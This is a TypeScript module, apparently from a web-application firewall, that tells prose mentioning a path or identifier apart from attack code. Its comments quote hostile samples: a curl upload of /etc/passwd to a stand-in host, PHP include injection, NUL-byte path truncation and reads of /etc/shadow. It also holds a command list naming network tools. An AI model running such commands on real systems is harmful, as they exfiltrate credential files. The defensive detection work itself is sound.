/**
 * "Does this value mention the match in a sentence?" — the match is a bare token (a path, a variable, a class
 * name: `/var/log/syslog`, `$_POST`, `java.io.IOException:`), every other token is prose (words, numbers, other
 * bare paths), and at least SENTENCE_WORDS of them are words outside quotes: "Check /var/log/syslog for errors", "Use $_POST
 * instead", "java.io.IOException: Permission denied", "日志在 /var/log/myapp/ 里面".
 *
 * Why: a file path, a PHP superglobal or a JDK class name is an attack when it is the value (`/etc/passwd` read by
 * an include) or when code around it uses it (`{% include '/etc/passwd' %}`, `open('/etc/passwd').read()`,
 * `include($_GET['f'])`); support tickets, chat and runbooks name the same things in short sentences all day.
 * A first version counted words anywhere in the value; a review showed that three words in a comment, a string
 * or trailing template text (`… %} is my file`, `… // read the file`) then lowered working payloads. Here any
 * token that is not prose — a template or comment delimiter, a quote or bracket inside a token, a call around
 * the match — means code, and the rule keeps its severity. Prose around a bare path is harmless in itself: the
 * path alone is what a file-name parameter would open, and a value with words around it names no file.
 *
 * Linear: one split and one anchored, bounded test per token.
 */
const SENTENCE_WORDS = 2;
/** A word, a number or an abbreviation, in brackets or quotes, with punctuation after: `(line`, `42)`, `e.g.`. */
const PROSE = /^[("'‘“¿¡]?[\p{L}\p{N}][\p{L}\p{N}\p{M}'’.-]{0,63}[)"'’”]?[,.;:!?…]{0,3}[)"'’”]?$/u;
/**
 * A word that counts: letters, an apostrophe only inside (`can't`), no dot inside (`evil.example` is a host), not
 * in quotes: `"echo hi"` is a command's argument as often as a quotation.
 */
const COUNTS = /^[(¿¡]?\p{L}(?:[\p{L}\p{N}\p{M}-]|['’](?=\p{L}))*[,.;:!?…)]{0,3}$/u;
/**
 * Commands that take a file, as they are typed (lower case): not words of a sentence. `sudo cat /etc/shadow` and
 * `cat /etc/passwd now` are command lines, "Output of cat /etc/hosts attached" still has three words.
 */
const COMMANDS = new Set(
  (
    'sudo cat tac more less head tail nl od xxd strings base64 base32 vi vim nano grep egrep sed awk curl wget nc ncat ' +
    'cp mv ls rm chmod chown tee sort uniq cut stat diff tar scp ssh rsync ln touch mkdir cd echo printf bash sh zsh ' +
    'python python3 perl php ruby node nice stdbuf command timeout nohup env exec xargs dd hexdump iconv fold paste ' +
    'rev tr zcat bzcat xzcat gzip zip openssl busybox'
  ).split(' '),
);
/** A dash, an ampersand or an emoji standing alone between words, or a command's option ("ran tail -f on it"). */
const FILLER = /^(?:[-–—&+=/|•·]|\p{Extended_Pictographic}+|--?[a-z][\w-]{0,30})$/iu;
/**
 * A bare token: path, identifier or variable characters only, maybe in a Markdown code span (`` `${HOME}` ``), a
 * `(` before and prose punctuation after. Not in quotes, not before `;`: `copy t from '/etc/passwd';` and
 * `load data infile "/etc/passwd" into table t` are SQL, whose keywords read as words.
 */
const BARE = /^\(?(`?)(?:[\p{L}\p{N}_./~:\\@%+-]|\$\{\w{1,64}\}|\$){1,512}\1[,.:!?)]{0,3}$/u;
/** Another path beside the match ("e.g. /etc/hosts or /etc/resolv.conf"); not `//`, a comment. */
const PATH = /^\(?\/[\w.~-][\w./~-]{0,255}[,.;:!?)]{0,3}$/;
/**
 * C string APIs stop at a NUL: `/etc/passwd%00 is my file` opens /etc/passwd. Prose holds no control character,
 * raw or percent-encoded (once or twice: `%2500`), so any makes the value code.
 */
const CONTROL = /[\0-\x08\x0b\x0c\x0e-\x1f]|%(?:25){0,2}[01][0-9a-f]|%u00[01][0-9a-f]/i;

/**
 * Whether every variant of the value (as sent, and each decoding) mentions the match in a sentence. The variants,
 * not the text the rule ran on: a rule's transforms fold away the very code this looks for (`path` turns a `//`
 * comment into `/`, `cmdline` drops quotes). The match is found in a token by the same folding.
 */
export function isMention(fragment: string, variants: readonly string[]): boolean {
  const match = fold(fragment.trim());
  return match !== '' && variants.length > 0 && variants.every((v) => mentions(v, match));
}

/** Case, slashes and the quoting a transform removes, folded as the rules' transforms fold them. */
function fold(s: string): string {
  return s.toLowerCase().replace(/["'`^]/g, '').replace(/\\/g, '/').replace(/\/{2,}/g, '/');
}

/**
 * Command lines: a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`, `/opt/app/run.sh`) with an option or a path
 * anywhere after it; any path at the start directly followed by an option or another path (`/tmp/x /etc/shadow`);
 * a shell separator — `;` ending a token, `|`, `||`, `&`, `&&` alone, a line break — directly followed by a path or a
 * command. A file's path at the start followed by words ("/etc/hosts and /etc/resolv.conf are both wrong") and a
 * separator followed by prose ("Fixed it; see /etc/hosts") are not (though the path that starts a value is never a
 * mention itself: `mentions`).
 */
const PROGRAM = /^(?:\.\/|[.~]?\/(?:[\w.-]+\/)*(?:s?bin|libexec)\/|[.~]?\/\S*\.(?:sh|bash|py\d?|pl|rb|php)$)/;
const A_PATH = /^\(?[.~]?\//;
/** A path of any kind at the start of a token: absolute, relative, home, or a Windows drive's. */
const START_PATH = /^\(?(?:[a-z]:|\.{1,2}|~)?[/\\]/i;
const SEPARATOR = /;$|^(?:\|\|?|&&?)$/;
/** An option, or a path: what a command line is made of. */
const ARGUMENT = /^(?:--?[a-z]|\(?[.~]?\/)/i;

function mentions(text: string, match: string): boolean {
  if (CONTROL.test(text)) return false;
  let found = false;
  let words = 0;
  let index = 0;
  let program = false;
  let pathFirst = false;
  let afterSeparator = false;
  for (const m of text.matchAll(/(\s*)(\S+)/g)) {
    const token = m[2]!;
    // `/usr/bin/curl --upload-file /etc/passwd evil.example thanks` is a command, whatever words follow.
    if (index === 0) {
      program = PROGRAM.test(token);
      pathFirst = A_PATH.test(token);
    } else if ((program || (pathFirst && index === 1)) && ARGUMENT.test(token)) return false;
    if ((afterSeparator || (index > 0 && m[1]!.includes('\n'))) && (A_PATH.test(token) || COMMANDS.has(token)))
      return false;
    afterSeparator = SEPARATOR.test(token);
    index++;
    if (!found && fold(token).includes(match)) {
      // A path in backticks is command substitution: `/usr/bin/id` runs, wherever a shell meets it. A path that
      // starts the value is what a file-name parameter opens and a URL builder resolves (`/etc/shadow is it`,
      // `../admin/keys? is it`), whatever words follow it.
      if ((index === 1 && START_PATH.test(token)) || !BARE.test(token) || token.includes('`/')) return false;
      found = true;
      continue;
    }
    if (PROSE.test(token)) {
      if (COUNTS.test(token) && !COMMANDS.has(token)) words++;
    } else if (!FILLER.test(token) && !PATH.test(token)) return false;
  }
  return found && words >= SENTENCE_WORDS;
}
